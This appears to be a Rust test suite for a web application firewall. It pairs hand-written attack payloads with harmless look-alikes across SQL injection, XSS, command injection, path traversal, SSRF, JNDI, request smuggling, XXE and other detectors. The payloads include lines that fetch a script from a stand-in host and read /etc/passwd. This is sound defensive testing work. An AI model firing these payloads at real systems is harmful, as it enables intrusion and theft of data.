//! End-to-end tests of [`inspect`]: for every detector, attacks beside benign look-alikes, in the places
//! attackers put them. Fixtures are written here, by hand.

use std::fmt::Write as _;

use super::*;

fn get(target: &str) -> Verdict {
    get_with(target, &Policy::default())
}

fn get_with(target: &str, policy: &Policy) -> Verdict {
    inspect(
        &RequestView {
            method: "GET",
            target,
            headers: &[],
            body: b"",
            body_truncated: false,
        },
        policy,
    )
}

fn post(ct: &str, body: &str) -> Verdict {
    let headers: &[(&str, &[u8])] = &[("Content-Type", ct.as_bytes())];
    inspect(
        &RequestView {
            method: "POST",
            target: "/api",
            headers,
            body: body.as_bytes(),
            body_truncated: false,
        },
        &Policy::default(),
    )
}

fn header(name: &str, value: &str) -> Verdict {
    let headers: &[(&str, &[u8])] = &[(name, value.as_bytes())];
    inspect(
        &RequestView {
            method: "GET",
            target: "/",
            headers,
            body: b"",
            body_truncated: false,
        },
        &Policy::default(),
    )
}

fn q(value: &str) -> String {
    let mut out = String::from("/search?q=");
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() {
            out.push(char::from(b));
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

#[track_caller]
fn blocks(v: &Verdict, rule_prefix: &str) {
    assert!(v.blocked, "expected a block by {rule_prefix}*, got {v:#?}");
    assert!(
        v.findings
            .iter()
            .any(|f| f.evidence.rule_id.starts_with(rule_prefix)),
        "expected a finding by {rule_prefix}*, got {v:#?}"
    );
}

#[track_caller]
fn passes(v: &Verdict) {
    assert!(!v.blocked, "expected no block, got {v:#?}");
}

#[test]
fn sqli_attacks_and_lookalikes() {
    blocks(&get(&q("1' OR '1'='1")), "sqli.");
    blocks(&get(&q("1 union select username, password from users")), "sqli.");
    blocks(&get(&q("1; DROP TABLE users--")), "sqli.");
    blocks(&get(&q("1' AND SLEEP(5)-- -")), "sqli.");
    blocks(&get(&q("1 AND extractvalue(1,concat(0x7e,version()))")), "sqli.");
    blocks(&get(&q("1/**/UnIoN/**/SeLeCt/**/1,2")), "sqli.");
    blocks(
        &post("application/json", r#"{"user":{"name":"admin'--"}}"#),
        "sqli.",
    );
    passes(&get(&q("O'Brien")));
    passes(&get(&q("select your plan")));
    passes(&get(&q("Rock 'n' roll")));
    passes(&post(
        "application/json",
        r#"{"comment":"I'd like to order 2 items, please"}"#,
    ));
}

#[test]
fn sql_tails_catalog_probes_and_statements_and_lookalikes() {
    blocks(&get(&q(" OR a=a")), "sqli.");
    blocks(&get(&q("or false#")), "sqli.");
    blocks(&get(&q(" ORDER BY 12-- ")), "sqli.");
    blocks(&get(&q(" HAVING 2=2")), "sqli.");
    blocks(&get(&q("select @@hostname")), "sqli.");
    blocks(&get(&q("select name from sysdatabases")), "sqli.");
    blocks(&get(&q("' grant dba to mallory; --")), "sqli.");
    blocks(
        &get(&q("x'); insert into accounts (name, role) values ('m', 'admin')")),
        "sqli.",
    );
    passes(&get(&q("order by date")));
    passes(&get(&q("or maybe tomorrow")));
    passes(&get(&q("where is my order")));
    passes(&get(&q("grant application deadline")));
}

#[test]
fn quoted_operator_words_in_prose_pass_but_bare_operators_do_not() {
    passes(&get(&q("VINTAGE GARDEN \"NOT\" INCLUDED")));
    passes(&get(&q("TOOLS \"&\" HARDWARE CATALOGUE")));
    passes(&get(&q("60% LINEN AND 40% SILK")));
    blocks(&get(&q("' + '")), "sqli.");
    blocks(&get(&q("x' ^ 0 != '1")), "sqli.");
    blocks(&get(&q("1' OR '1'='1")), "sqli.");
}

#[test]
fn sql_typed_into_a_search_box_is_evidence_but_probes_are_not_ignored() {
    // A plain statement alone needs the application to run the whole parameter as SQL.
    passes(&get(&q("select 1 from a")));
    passes(&get(&q("SELECT * FROM orders WHERE orders.ref = 'x12' LIMIT 1;")));
    blocks(&get(&q("select name from all_tables")), "sqli.");
    blocks(&get(&q("SELECT 0x61646d696e FROM t")), "sqli.");
    blocks(&get(&q("select version() from dual")), "sqli.");
    // A sentence that mentions a script tag is not one.
    passes(&get(&q("why is binary<script an error")));
    // A script URL made only of plain characters.
    blocks(&get("/r?next=javascript:alert"), "xss.");
    passes(&get("/r?at=12:30:00&urn=urn:isbn:0451450523"));
    blocks(&get(&q("x<script src=//evil.example/x.js")), "xss.");
}

#[test]
fn escaped_lone_markup_is_a_probe_but_a_typed_operator_is_not() {
    blocks(&get("/s?q=%26%23x0003C%3B"), "xss.encoded_markup_probe");
    blocks(&get("/s?q=%26lt"), "xss.encoded_markup_probe");
    blocks(&get("/s?q=%5Cu003c"), "xss.encoded_markup_probe");
    passes(&get("/s?op=%3C&value=5"));
    passes(&get(&q("a &lt; b in the docs")));
}

#[test]
fn xss_attacks_and_lookalikes() {
    blocks(&get(&q("<script>alert(1)</script>")), "xss.");
    blocks(&get(&q("<img src=x onerror=alert(1)>")), "xss.");
    blocks(&get(&q("<svg/onload=alert(1)>")), "xss.");
    blocks(&get(&q("javascript:alert(document.cookie)")), "xss.");
    blocks(&get(&q("\" onmouseover=\"alert(1)")), "xss.");
    blocks(&get(&q("{{constructor.constructor('alert(1)')()}}")), "xss.");
    blocks(&get(&q("&lt;script&gt;alert(1)&lt;/script&gt;")), "xss.");
    blocks(&get(&q("＜script＞alert(1)＜/script＞")), "xss.");
    passes(&get(&q("price < 5 EUR")));
    passes(&get(&q("I <3 this")));
    passes(&post(
        "application/json",
        r#"{"snippet":"if (a < b) { return x; }"}"#,
    ));
    passes(&get(&q("{{user.name}}")));
}

#[test]
fn command_injection_and_lookalikes() {
    blocks(&get(&q("127.0.0.1; cat /etc/passwd")), "");
    blocks(&get(&q("x | id")), "cmdi.");
    blocks(&get(&q("$(whoami)")), "cmdi.");
    blocks(&get(&q("`uname -a`")), "cmdi.");
    blocks(&get(&q(";c'a't${IFS}/etc/hosts")), "");
    blocks(&header("User-Agent", "() { :; }; /bin/bash -c id"), "cmdi.");
    passes(&get(&q("Tom & Jerry; more fun")));
    passes(&get(&q("cats | dogs")));
    passes(&get(&q("R&D")));
}

#[test]
fn direct_and_bare_commands_and_lookalikes() {
    // A parameter that is a whole command line needs no separator.
    blocks(&get(&q("uname -a")), "cmdi.");
    blocks(&get(&q("whoami")), "cmdi.");
    blocks(&get(&q("netstat -ano")), "cmdi.");
    blocks(&get(&q("type C:\\inetpub\\logs\\x.log")), "cmdi.");
    blocks(&get(&q("net localgroup administrators eve /add")), "cmdi.");
    blocks(&get(&q("wget http://203.0.113.9/x.sh")), "cmdi.");
    blocks(&get(&q("sleep 20")), "cmdi.");
    blocks(&get(&q("which socat")), "cmdi.");
    blocks(&get(&q("' ifconfig")), "cmdi.");
    // Bare commands between separators, and escaped line breaks.
    blocks(&get(&q(");id|")), "cmdi.");
    blocks(&get(&q("`ls`")), "cmdi.");
    blocks(&get(&q("| netsh advfirewall show allprofiles")), "cmdi.");
    blocks(&get(&q("x\\n ping -c 9 198.51.100.7\\n")), "cmdi.");
    // Commands as words.
    passes(&get(&q("sleep 8 hours a night")));
    passes(&get(&q("type of account")));
    passes(&get(&q("net user growth in 2024")));
    passes(&get(&q("fields=name;id")));
    passes(&get(&q("which one is better")));
    passes(&get("/login?uname=anne"));
    passes(&post(
        "application/json",
        r#"{"trace":"Error: boom\n    at https://cdn.example.com/app.js:1:993"}"#,
    ));
}

#[test]
fn traversal_and_lookalikes() {
    blocks(&get(&q("../../../../etc/passwd")), "traversal.");
    blocks(&get(&q("..%2f..%2f..%2fetc%2fshadow")), "traversal.");
    blocks(&get(&q("..\\..\\windows\\win.ini")), "traversal.");
    blocks(
        &get("/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        "traversal.",
    );
    blocks(
        &get(&q("php://filter/convert.base64-encode/resource=index.php")),
        "traversal.",
    );
    blocks(&get("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"), "traversal.");
    passes(&get(&q("../images/logo.png")));
    passes(&get(&q("Chapter 1... and then")));
    passes(&get(&q("the passwd file is in etc")));
}

#[test]
fn traversal_with_garbled_separators_and_lookalikes() {
    // IIS-era escapes with non-hex digits, split escapes, 5- and 6-byte overlong forms, hex literals.
    blocks(&get("/f?name=..%c0%qf..%c0%qfetc%c0%qfhosts"), "traversal.");
    blocks(
        &get("/f?name=..%c1%pcwinnt%c1%pcsystem32%c1%pcdrivers"),
        "traversal.",
    );
    blocks(&get("/f?name=..%c1%afetc%c1%afshadow"), "traversal.");
    blocks(&get("/f?name=..%5%c..%5%cwindows%5%cwin.ini"), "traversal.");
    blocks(&get("/f?name=..%2%f..%2%fetc%2%fgroup"), "traversal.");
    blocks(
        &get("/f?name=%fc%80%80%80%80%ae%fc%80%80%80%80%ae%f8%80%80%80%afetc%f8%80%80%80%afshadow"),
        "traversal.",
    );
    blocks(&get("/f?name=0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fgroup"), "traversal.");
    blocks(&get("/f?name=.%00.%bg%qf.%00.%bg%qfetc%bg%qfhosts"), "traversal.");
    blocks(&header("Cookie", "theme=.htpasswd"), "traversal.");
    blocks(&get("/f?name=%3f.%2f%3f.%2fetc%2fhosts"), "traversal.");
    passes(&get(&q("what?. nothing")));
    // Percent signs and hex in ordinary values.
    passes(&get(&q("50%off today, 100%good")));
    passes(&get("/f?wallet=0x52908400098527886e0f7030069857d2e4169ee7"));
    passes(&get(&q("Ángel Núñez")));
    passes(&get(&q("see the .NET docs")));
}

#[test]
fn template_and_php_probes_and_lookalikes() {
    blocks(&get(&q("{{7*191}}")), "other.template_injection");
    blocks(
        &get(&q("{{ ''.__ class __.__ mro __ }}")),
        "other.template_injection",
    );
    blocks(&get(&q("{${system(hexdec(99))}}")), "php.");
    blocks(&get(&q(";{$_POST['x']}")), "php.");
    blocks(&get(&q("phpversion()")), "php.");
    passes(&get(&q("{{ user.first_name }}")));
    passes(&get(&q("price: $5 [approx]")));
}

#[test]
fn ssrf_rfi_and_lookalikes() {
    blocks(&get(&q("http://169.254.169.254/latest/meta-data/")), "ssrf.");
    blocks(&get(&q("http://127.0.0.1:8080/admin")), "ssrf.");
    blocks(&get(&q("http://2130706433/")), "ssrf.");
    blocks(&get(&q("http://0x7f000001/")), "ssrf.");
    blocks(&get(&q("http://[::1]/")), "ssrf.");
    blocks(&get(&q("gopher://localhost:6379/_INFO")), "ssrf.");
    blocks(
        &get(&q("http://metadata.google.internal/computeMetadata/v1/")),
        "ssrf.",
    );
    passes(&get(&q("https://www.example.com/page?x=1")));
    passes(&header("Referer", "http://localhost:3000/dashboard"));
}

#[test]
fn jndi_and_lookalikes() {
    blocks(&get(&q("${jndi:ldap://evil.example/a}")), "jndi.");
    blocks(
        &header("User-Agent", "${${lower:j}ndi:${lower:l}dap://x/a}"),
        "jndi.",
    );
    blocks(
        &header("X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
        "jndi.",
    );
    passes(&get(&q("price is ${amount} today")));
}

#[test]
fn crlf_and_protocol_anomalies() {
    blocks(&get("/%0d%0aSet-Cookie:crlf=injection"), "crlf.");
    blocks(&get(&q("x\r\nLocation: http://evil.example")), "crlf.");
    passes(&post(
        "application/json",
        r#"{"text":"line one\nline two: more"}"#,
    ));

    let smuggle: &[(&str, &[u8])] = &[("Content-Length", b"4"), ("Transfer-Encoding", b"chunked")];
    let v = inspect(
        &RequestView {
            method: "POST",
            target: "/",
            headers: smuggle,
            body: b"",
            body_truncated: false,
        },
        &Policy::default(),
    );
    blocks(&v, "protocol.cl_and_te");
    let dup: &[(&str, &[u8])] = &[("Content-Length", b"4"), ("Content-Length", b"5")];
    let v = inspect(
        &RequestView {
            method: "POST",
            target: "/",
            headers: dup,
            body: b"",
            body_truncated: false,
        },
        &Policy::default(),
    );
    blocks(&v, "protocol.duplicate_content_length");
    let te: &[(&str, &[u8])] = &[("Transfer-Encoding", b"chunked, identity")];
    let v = inspect(
        &RequestView {
            method: "POST",
            target: "/",
            headers: te,
            body: b"",
            body_truncated: false,
        },
        &Policy::default(),
    );
    blocks(&v, "protocol.bad_transfer_encoding");
    let ok: &[(&str, &[u8])] = &[("Transfer-Encoding", b"chunked")];
    passes(&inspect(
        &RequestView {
            method: "POST",
            target: "/",
            headers: ok,
            body: b"",
            body_truncated: false,
        },
        &Policy::default(),
    ));
    let v = inspect(
        &RequestView {
            method: "G(E)T",
            target: "/",
            headers: &[],
            body: b"",
            body_truncated: false,
        },
        &Policy::default(),
    );
    blocks(&v, "protocol.bad_method");
}

#[test]
fn code_injection_and_lookalikes() {
    blocks(
        &post(
            "application/x-www-form-urlencoded",
            "code=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B",
        ),
        "php.",
    );
    blocks(
        &header(
            "Content-Type",
            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
        ),
        "java.",
    );
    blocks(
        &post("application/json", r#"{"__proto__":{"isAdmin":true}}"#),
        "nodejs.",
    );
    blocks(
        &post(
            "application/xml",
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        ),
        "other.xxe",
    );
    blocks(
        &get(&q("{{ ''.__class__.__mro__[1].__subclasses__() }}")),
        "other.template_injection",
    );
    passes(&post(
        "application/xml",
        r#"<?xml version="1.0"?><order><id>7</id><note>fast &amp; cheap</note></order>"#,
    ));
    passes(&post(
        "application/json",
        r#"{"code":"function add(a, b) { return a + b; }"}"#,
    ));
    passes(&post("application/json", r#"{"prototype":"v2 of the design"}"#));
}

#[test]
fn scanner_user_agents() {
    blocks(
        &header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        "scanner.",
    );
    passes(&header(
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0",
    ));
}

#[test]
fn multipart_filenames_and_fields_are_inspected() {
    let body = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../../etc/cron.d/x\"\r\n\r\nhi\r\n--B--\r\n";
    blocks(&post("multipart/form-data; boundary=B", body), "traversal.");
    let body = "--B\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.png\"\r\n\r\nPNG data\r\n--B--\r\n";
    passes(&post("multipart/form-data; boundary=B", body));
}

#[test]
fn higher_paranoia_levels_weigh_ambiguous_evidence_fully() {
    let at = |level: u8, target: &str| {
        get_with(
            target,
            &Policy {
                paranoia: level,
                ..Policy::default()
            },
        )
    };
    for target in [
        "/f?q=a%3Bid",                                             // `a;id`
        "/f?q=..%2Fimg%2Flogo.png",                                // one `../`
        "/f?q=admin%27%20%23",                                     // `admin' #`
        "/f?q=%3Cdiv%20style%3D%22color%3Ared%22%3Ex%3C%2Fdiv%3E", // markup with attributes
        "/f?q=select%201%20from%20a",                              // a plain statement
    ] {
        assert!(!at(1, target).blocked, "paranoia 1 blocked {target}");
        assert!(at(3, target).blocked, "paranoia 3 let {target} through");
    }
    assert!(!at(4, "/f?q=hello%20world").blocked);
}

#[test]
fn policy_modes_thresholds_and_exclusions() {
    let req = RequestView {
        method: "GET",
        target: "/cms/save?body=%3Cscript%3Ex%3C%2Fscript%3E",
        headers: &[],
        body: b"",
        body_truncated: false,
    };
    let v = inspect(
        &req,
        &Policy {
            mode: Mode::Detect,
            ..Policy::default()
        },
    );
    assert!(v.over_threshold && !v.blocked && !v.decided_by.is_empty());
    let excluded = Policy {
        exclusions: vec![Exclusion {
            path_prefix: Some("/cms".into()),
            location: "query:body".into(),
            rules: vec!["xss.".into()],
        }],
        ..Policy::default()
    };
    let v = inspect(&req, &excluded);
    assert!(
        !v.findings.iter().any(|f| f.evidence.rule_id.starts_with("xss.")),
        "{v:#?}"
    );
    let v = inspect(
        &req,
        &Policy {
            threshold: 1000,
            ..Policy::default()
        },
    );
    assert!(!v.blocked && v.score > 0);
}

#[test]
fn findings_carry_location_and_redacted_excerpts() {
    let v = post(
        "application/json",
        r#"{"user":{"name":"x' or 1=1--","password":"' or ''='"}}"#,
    );
    assert!(
        v.findings
            .iter()
            .any(|f| f.evidence.location == "json:$.user.name" && f.evidence.excerpt.contains("or 1=1"))
    );
    let pw = v
        .findings
        .iter()
        .find(|f| f.evidence.location == "json:$.user.password")
        .expect("password finding");
    assert_eq!(pw.evidence.excerpt, "[redacted]");
}

#[test]
fn hostile_inputs_stay_bounded() {
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let _ = post("application/json", &deep);
    let nested = "${".repeat(50_000);
    let _ = get(&q(&nested));
    let many = "%25".repeat(100_000);
    let _ = get(&format!("/x?a={many}"));
    let lts = "<a ".repeat(50_000);
    let _ = post("text/plain", &lts);
}

#[test]
fn obfuscated_javascript_calls_and_lookalikes() {
    blocks(&get(&q("window['al'+'ert'](document['domain'])")), "xss.");
    blocks(&get(&q("self[/al/.source+/ert/.source](1)")), "xss.");
    blocks(&get(&q("confirm.call(null,1)")), "xss.");
    passes(&get(&q("window resized to 800x600")));
    passes(&post(
        "application/json",
        r#"{"msg":"Please confirm your email address"}"#,
    ));
}

#[test]
fn other_injection_languages_and_lookalikes() {
    blocks(&get(&q("*)(|(objectclass=*))")), "other.ldap_injection");
    blocks(
        &post("application/json", r#"{"user":{"$ne":null},"pass":{"$gt":""}}"#),
        "",
    );
    blocks(
        &get(&q("x\r\nRCPT TO: victim@example.com\r\n")),
        "other.mail_command_injection",
    );
    blocks(
        &get(&q("!!python/object/new:os.system [id]")),
        "other.unsafe_deserialization",
    );
    passes(&get(&q("(see page 3)")));
    passes(&post("application/json", r#"{"price":"$5 (was $7)"}"#));
}

#[test]
fn base64_parameters_are_decoded_but_tokens_are_not() {
    // base64 of `1' or '1'='1`
    blocks(&get("/item?id=MScgb3IgJzEnPScx"), "sqli.");
    passes(&get("/item?token=dGhpc2lzYXRva2VuMTIz"));
    passes(&get("/item?sid=q83vEjRWeJq8Xz1yA9kLmN4oPq7R"));
}

#[test]
fn sql_words_in_natural_language_search_do_not_block_but_attacks_do() {
    passes(&get(&q("sql注入的 and 1=1 测试法可以直接用吗")));
    blocks(&get(&q("1 and 1=1")), "sqli.");
    passes(&get("/blog/difference-between-etc-shadow-and-etc-passwd"));
}

#[test]
fn referer_query_values_are_inspected() {
    blocks(
        &header("Referer", "https://shop.example/x?name=window['alert'](1)"),
        "xss.",
    );
    passes(&header(
        "Referer",
        "https://www.example.com/search?q=union+select+tutorial",
    ));
}

#[test]
fn padding_does_not_hide_a_payload() {
    let mut body = "comment=".to_owned();
    body.push_str(&"A".repeat(200_000));
    body.push_str("%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    blocks(&post("application/x-www-form-urlencoded", &body), "xss.");
}
